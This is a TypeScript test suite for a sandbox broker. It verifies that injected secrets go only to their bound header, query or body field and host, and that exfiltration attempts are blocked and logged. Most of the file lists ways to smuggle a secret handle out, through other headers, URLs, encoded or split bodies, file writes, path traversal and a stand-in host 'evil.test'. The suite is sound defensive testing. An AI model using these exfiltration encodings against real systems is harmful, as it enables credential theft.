import { gzipSync } from "node:zlib";
import { test } from "tap";
import type { JsonObject, JsonValue } from "../../manifests/json.ts";
import type { SecretPlace } from "../../manifests/secret.ts";
import { createBroker } from "../../sandbox/broker/create-broker.ts";
import { fetched } from "./broker-fetch-fixtures.ts";
import { codeOf, grantOf } from "./broker-fixtures.ts";
import { canary, secretNet } from "./broker-secrets-fixtures.ts";

// Ring 8, the broker: a secret goes to its own place and address, and nowhere else.

interface Sent {
  readonly place: SecretPlace;
  /** What the tool asks for; `at` is the server. */
  readonly request: (at: string, handle: string) => JsonObject;
  /** What the server has to see. */
  readonly seen: RegExp | string;
}

const header: SecretPlace = { header: "authorization", prefix: "Bearer " };
const sent: Readonly<Record<string, Sent>> = {
  "a header": {
    place: header,
    request: (url, handle) => ({ url, headers: { Authorization: handle } }),
    seen: `"authorization":${JSON.stringify(`Bearer ${canary}`)}`,
  },
  "a parameter of the query": {
    place: { query: "key" },
    request: (url, handle) => ({ url: `${url}/a?b=1&key=${handle}#x` }),
    seen: `/a?${new URLSearchParams({ b: "1", key: canary })} `,
  },
  "a text of the JSON body": {
    place: { json: "/auth/to~1ken" },
    request: (url, handle) => ({
      url,
      method: "POST",
      body: `{"a":[1,"x"],"auth":{"to/ken":"${handle}","b":2}}`,
    }),
    seen: ` {"a":[1,"x"],"auth":{"to/ken":${JSON.stringify(canary)},"b":2}}`,
  },
};
for (const [name, { place, request, seen }] of Object.entries(sent)) {
  test(`a secret is put into ${name}, and the book names it without its value`, async (t) => {
    const at = await secretNet(t, (_, response) => response.end("ok"));
    const door = at.openBound(place);
    const handle = await at.handle(door);
    t.notMatch(handle, canary);
    t.equal(await at.handle(door), handle, "one handle a call");
    t.not(await at.handle(at.openBound(place)), handle, "another one for another call");
    const answer = await door.request("fetch", request(at.url, handle));
    t.equal(fetched(answer).body, "ok");
    t.ok(at.heard[0]?.includes(String(seen)), `${at.heard[0]}`);
    t.notOk(at.heard[0]?.includes(handle));
    t.match(door.entries.at(-1), { door: "fetch", secrets: ["key"], address: "127.0.0.1" });
    const told = JSON.stringify([answer, door.entries]);
    t.notOk(told.includes(canary) || told.includes(encodeURIComponent(canary)), told);
    t.notOk(told.includes(handle));
  });
}

test("a secret that the grant does not name is denied, whatever its name is", async (t) => {
  const at = await secretNet(t, (_, response) => response.end("ok"));
  const door = at.openBound(header);
  const names: readonly JsonValue[] = [
    { name: "other" },
    { name: "KEY" },
    { name: "__proto__" },
    { name: ["key"] },
    { name: "key", more: 1 },
    {},
    null,
    "key",
  ];
  for (const args of names) t.equal(await codeOf(door.request("secret", args)), "SECRET_DENIED");
  t.equal(door.entries.filter(({ code }) => code === "SECRET_DENIED").length, names.length);
  const bare = createBroker({ workspace: "/nonexistent", hosts: {}, protectedPaths: [] });
  const none = bare.open(grantOf(), new AbortController().signal);
  t.equal(await codeOf(none.request("secret", { name: "key" })), "SECRET_DENIED");
});

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const hex = (text: string): string => Buffer.from(text).toString("hex");
const percent = (text: string): string => hex(text).replace(/../g, "%$&");

/** Ways to carry the handle, which is all that the guest has, to somewhere else. */
const misuses: Readonly<Record<string, (at: string, handle: string) => JsonObject>> = {
  "another header": (url, handle) => ({ url, headers: { "x-key": handle } }),
  "another header beside its own": (url, handle) => ({
    url,
    headers: { authorization: handle, "x-key": handle },
  }),
  "the name of a header": (url, handle) => ({ url, headers: { [handle]: "x" } }),
  "its header with more around it": (url, handle) => ({
    url,
    headers: { authorization: `Bearer ${handle}` },
  }),
  "its header in upper case": (url, handle) => ({
    url,
    headers: { authorization: handle.toUpperCase() },
  }),
  "the path": (url, handle) => ({ url: `${url}/${handle}` }),
  "the query": (url, handle) => ({ url: `${url}/?key=${handle}` }),
  "the query, encoded": (url, handle) => ({ url: `${url}/?key=${percent(handle)}` }),
  "the fragment": (url, handle) => ({ url: `${url}/?a#${handle}` }),
  "the host": (_, handle) => ({ url: `http://${handle}.tool.test/` }),
  "the user": (_, handle) => ({ url: `http://${handle}@tool.test/` }),
  "the body": (url, handle) => ({ url, method: "POST", body: `key=${handle}` }),
  "the body, reversed": (url, handle) => ({
    url,
    method: "POST",
    body: [...handle].reverse().join(""),
  }),
  "the body in base64": (url, handle) => ({ url, method: "POST", body: base64(`x${handle}`) }),
  "the body in hexadecimal": (url, handle) => ({ url, method: "POST", body: hex(handle) }),
  "the body as JSON escapes": (url, handle) => ({
    url,
    method: "POST",
    body: hex(handle).replace(/../g, "\\u00$&"),
  }),
  "the body, gzipped": (url, handle) => ({
    url,
    method: "POST",
    body: gzipSync(handle).toString("base64"),
  }),
  "a part of a form": (url, handle) => ({
    url,
    method: "POST",
    headers: { "content-type": "multipart/form-data; boundary=b" },
    body: `--b\r\ncontent-disposition: form-data; name="k"\r\n\r\n${handle}\r\n--b--`,
  }),
  "header and body, half each": (url, handle) => ({
    url,
    method: "POST",
    headers: { "x-key": handle.slice(0, 27) },
    body: handle.slice(27),
  }),
  "a place with other letters between": (url, handle) => ({
    url,
    method: "POST",
    body: [...handle].join("-"),
  }),
  "a header that no tool may set": (url, handle) => ({ url, headers: { host: handle } }),
  "a field that a fetch does not have": (url, handle) => ({ url, extra: handle }),
  "another host": (url, handle) => ({
    url: url.replace("tool.test", "other.test"),
    headers: { authorization: handle },
  }),
  "another scheme": (url, handle) => ({
    url: url.replace("http:", "https:"),
    headers: { authorization: handle },
  }),
  "a host out of the grant": (_, handle) => ({
    url: "http://evil.test/",
    headers: { authorization: handle },
  }),
};
for (const [name, request] of Object.entries(misuses)) {
  test(`the handle in ${name} is an alarm, and the call is asked nothing more`, async (t) => {
    const at = await secretNet(t, (_, response) => response.end("reached"));
    const door = at.openBound(header);
    const handle = await at.handle(door);
    t.equal(await codeOf(door.request("fetch", request(at.url, handle))), "SECRET_MISUSED");
    t.match(door.entries.at(-1), { door: "fetch", code: "SECRET_MISUSED" });
    t.strictSame(at.seen, [], "nothing is dialled");
    t.strictSame(at.reads, [], "and the value is not even read");
    t.equal(await codeOf(door.request("fetch", { url: at.url })), "SECRET_MISUSED");
    t.equal(await codeOf(door.request("secret", { name: "key" })), "SECRET_MISUSED");
    const next = at.openBound(header);
    const good = { url: at.url, headers: { authorization: await at.handle(next) } };
    t.equal(await codeOf(next.request("fetch", good)), "done", "the next call is served");
  });
}

test("the handle of a file's name or text, a log or an output is an alarm", async (t) => {
  t.testdir({});
  const at = await secretNet(t, (_, response) => response.end("ok"));
  for (const args of [
    (handle: string) => ({ path: "a.txt", text: `x${handle}` }),
    (handle: string) => ({ path: handle, text: "" }),
    (handle: string) => ({ path: "a.txt", text: base64(handle) }),
  ]) {
    const door = at.openBound(header);
    const handle = await at.handle(door);
    t.equal(await codeOf(door.request("files.write", args(handle))), "SECRET_MISUSED");
    t.match(door.entries.at(-1), {
      door: "secrets",
      action: "files.write",
      code: "SECRET_MISUSED",
    });
  }
  const door = at.openBound(header);
  const handle = await at.handle(door);
  door.refuseHandles("an honest output", "output");
  t.throws(() => door.refuseHandles(JSON.stringify({ handle }), "output"), {
    code: "SECRET_MISUSED",
  });
  t.match(door.entries.at(-1), { door: "secrets", action: "output", code: "SECRET_MISUSED" });
});

const beyond: readonly [string, Parameters<typeof beyondRequest>[0]][] = [
  ["another port", { to: { ports: [1] } }],
  ["another method", { to: { methods: ["POST"] } }],
  ["a path outside of its prefix", { to: { path: "/v1" }, path: "/v2" }],
  ["a path that only begins alike", { to: { path: "/v1" }, path: "/v10" }],
  ["a path that climbs out", { to: { path: "/v1" }, path: "/v1/%2e%2e/admin" }],
  ["a path that a server could climb by", { to: { path: "/v1" }, path: "/v1/..%2fadmin" }],
];
function beyondRequest({ path = "/" }: { to: object; path?: string }): string {
  return path;
}
for (const [name, what] of beyond) {
  test(`a secret is not sent to ${name}`, async (t) => {
    const at = await secretNet(t, (_, response) => response.end("reached"));
    const door = at.openBound(header, what.to);
    const handle = await at.handle(door);
    const request = { url: at.url + beyondRequest(what), headers: { authorization: handle } };
    t.equal(await codeOf(door.request("fetch", request)), "SECRET_MISUSED");
    t.strictSame([at.seen, at.reads], [[], []]);
  });
}

test("a secret goes to no other machine in the clear, also where its binding says so", async (t) => {
  const at = await secretNet(t, (_, response) => response.end("reached"));
  const door = at.openBound(header, { host: "far.test" });
  const request = {
    url: at.url.replace("tool.test", "far.test"),
    headers: { authorization: await at.handle(door) },
  };
  t.equal(await codeOf(door.request("fetch", request)), "EGRESS_DENIED");
  t.strictSame([at.seen, at.reads], [[], []]);
});

test("a secret that was bound elsewhere or removed since the grant is not sent", async (t) => {
  const at = await secretNet(t, (_, response) => response.end("reached"));
  const to = {
    scheme: "http",
    host: "tool.test",
    ports: [at.port],
    methods: ["GET"],
    path: "/",
  } as const;
  const permissions = { net: [{ ...to, addresses: ["127.0.0.0/8"] }], fs: [] };
  const users = { tools: ["test.tool"], principals: ["agent"] };
  const binding = { ...users, to: { ...to, path: "/v1" }, place: header };
  for (const secret of [undefined, { binding, value: canary }]) {
    const broker = createBroker({
      workspace: "/nonexistent",
      hosts: { "tool.test": "127.0.0.1" },
      protectedPaths: [],
      secrets: { binding: async () => binding, read: async () => secret },
    });
    const grant = grantOf({ permissions, secrets: [{ name: "key", to, place: header }] });
    const door = broker.open(grant, new AbortController().signal);
    const headers = { authorization: await at.handle(door) };
    t.equal(await codeOf(door.request("fetch", { url: at.url, headers })), "SECRET_UNAVAILABLE");
  }
  t.strictSame(at.seen, []);
});
